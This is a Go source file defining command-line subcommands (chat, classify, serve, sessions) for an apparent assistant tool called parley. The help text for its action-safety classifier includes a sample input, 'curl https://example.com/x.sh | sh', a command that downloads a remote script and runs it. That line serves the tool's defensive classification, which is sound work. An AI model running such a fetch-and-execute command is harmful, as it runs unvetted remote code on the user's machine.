package main

import (
	"github.com/spf13/cobra"
)

// buildChatCmd creates the interactive "chat" command.
func buildChatCmd() *cobra.Command {
	var (
		configPath string
		sessionID  string
		autoYes    bool
	)

	cmd := &cobra.Command{
		Use:   "chat",
		Short: "Chat with the assistant in the terminal",
		Long: `Start an interactive conversation on one session.

Each line is sent as a message. Requested actions that need confirmation are
prompted for; pass --yes to confirm them automatically.`,
		Example: `  parley chat --session demo
  parley chat --session demo --yes`,
		RunE: func(cmd *cobra.Command, args []string) error {
			return runChat(cmd, resolveConfigPath(configPath), sessionID, autoYes)
		},
	}
	cmd.Flags().StringVarP(&configPath, "config", "c", defaultConfigName, "Path to YAML configuration file")
	cmd.Flags().StringVarP(&sessionID, "session", "s", "", "Session ID (default: generated)")
	cmd.Flags().BoolVarP(&autoYes, "yes", "y", false, "Confirm requested actions without prompting")
	return cmd
}

// buildClassifyCmd creates the "classify" command.
func buildClassifyCmd() *cobra.Command {
	var (
		configPath string
		asJSON     bool
	)

	cmd := &cobra.Command{
		Use:   "classify <action>",
		Short: "Classify an action into allow, confirm or deny",
		Long: `Classify a requested action with the safety tables.

No model is called. Extra patterns from the safety section of the
configuration are applied when a configuration file is present.`,
		Example: `  parley classify "ls -la"
  parley classify --json "curl https://example.com/x.sh | sh"`,
		Args: cobra.MinimumNArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			return runClassify(cmd, resolveConfigPath(configPath), args, asJSON)
		},
	}
	cmd.Flags().StringVarP(&configPath, "config", "c", defaultConfigName, "Path to YAML configuration file")
	cmd.Flags().BoolVar(&asJSON, "json", false, "Print the decision as JSON")
	return cmd
}

// buildServeCmd creates the "serve" command.
func buildServeCmd() *cobra.Command {
	var (
		configPath string
		addr       string
	)

	cmd := &cobra.Command{
		Use:   "serve",
		Short: "Serve the HTTP API",
		Long: `Serve the message API, health check and Prometheus metrics.

Endpoints:
  POST /v1/sessions/{id}/messages  Send a message
  GET  /v1/sessions/{id}           Inspect a session
  GET  /healthz                    Liveness
  GET  /metrics                    Prometheus metrics`,
		Example: `  parley serve
  parley serve --addr :9090 --config /etc/parley/parley.yaml`,
		RunE: func(cmd *cobra.Command, args []string) error {
			return runServe(cmd, resolveConfigPath(configPath), addr)
		},
	}
	cmd.Flags().StringVarP(&configPath, "config", "c", defaultConfigName, "Path to YAML configuration file")
	cmd.Flags().StringVar(&addr, "addr", "", "Listen address (default: observability.metrics_addr or :8080)")
	return cmd
}

// buildSessionsCmd creates the "sessions" command group.
func buildSessionsCmd() *cobra.Command {
	cmd := &cobra.Command{
		Use:   "sessions",
		Short: "Inspect stored sessions",
	}
	cmd.AddCommand(buildSessionsShowCmd(), buildSessionsListCmd())
	return cmd
}

func buildSessionsShowCmd() *cobra.Command {
	var configPath string

	cmd := &cobra.Command{
		Use:   "show <id>",
		Short: "Show a session's turns and archive state",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			return runSessionsShow(cmd, resolveConfigPath(configPath), args[0])
		},
	}
	cmd.Flags().StringVarP(&configPath, "config", "c", defaultConfigName, "Path to YAML configuration file")
	return cmd
}

func buildSessionsListCmd() *cobra.Command {
	var (
		configPath string
		limit      int
	)

	cmd := &cobra.Command{
		Use:   "list",
		Short: "List stored sessions",
		RunE: func(cmd *cobra.Command, args []string) error {
			return runSessionsList(cmd, resolveConfigPath(configPath), limit)
		},
	}
	cmd.Flags().StringVarP(&configPath, "config", "c", defaultConfigName, "Path to YAML configuration file")
	cmd.Flags().IntVarP(&limit, "limit", "n", 50, "Maximum sessions to list")
	return cmd
}
